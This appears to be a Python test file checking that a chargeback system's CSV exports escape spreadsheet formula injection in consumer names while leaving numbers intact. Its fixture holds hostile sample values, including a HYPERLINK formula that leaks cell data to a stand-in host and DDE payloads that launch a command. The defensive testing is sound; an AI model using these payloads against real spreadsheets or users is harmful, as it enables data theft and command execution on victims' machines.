"""Every CSV export escapes text a spreadsheet would run as a formula (issue 12: a consumer
named ``=HYPERLINK(...)`` was written verbatim), by the pack's rule, and leaves numbers."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from chargeback.models import ConsumerSnapshot

NAMES = {
    "LAB1": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "LAB2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "LINE1": "+1+cmd|' /C calc'!A0",
    "LINE2": "-2+3",
}
EXPORTS = ("/api/v1/charges.csv", "/api/v1/charges/focus.csv", "/api/v1/usage.csv")
NAME_COLUMN = {"/api/v1/charges.csv": "Consumer name", "/api/v1/usage.csv": "Consumer name",
               "/api/v1/charges/focus.csv": "SubAccountName"}


@pytest.fixture
def hostile_names(company, session):
    """The closed month's consumers named as an attacker would name them."""
    for code, name in NAMES.items():
        session.execute(update(ConsumerSnapshot).where(
            ConsumerSnapshot.period == "2026-03", ConsumerSnapshot.code == code
        ).values(name=name))
    session.commit()


def _rows(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("url", EXPORTS)
def test_formula_text_is_written_as_text(api, hostile_names, url):
    rows = _rows(api("finance").get(f"{url}?period=2026-03"))
    names = {r[NAME_COLUMN[url]] for r in rows}
    hostile = names & {"'" + name for name in NAMES.values()}
    assert hostile, names  # the export names some of these consumers ...
    assert not names & set(NAMES.values())  # ... never as a formula
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+@\t\r" or value.startswith("'"), value


def test_numbers_stay_numbers(api, hostile_names):
    journal = _rows(api("finance").get("/api/v1/journal.csv?period=2026-03"))
    charges = _rows(api("finance").get("/api/v1/charges.csv?period=2026-03"))
    amounts = [r["Amount"] for r in charges] + [r["Debit"] for r in journal]
    assert all(not a.startswith("'") for a in amounts)


def test_the_cell_rule():
    from chargeback.api.results import csv_cell

    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("  =1+1") == "'  =1+1"
    assert csv_cell("\t=1") == "'\t=1"
    assert csv_cell("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert csv_cell("-12.50") == "-12.50" and csv_cell("-5") == "-5"
    assert csv_cell("-5+1") == "'-5+1"
    assert csv_cell("Materials lab") == "Materials lab" and csv_cell("") == ""
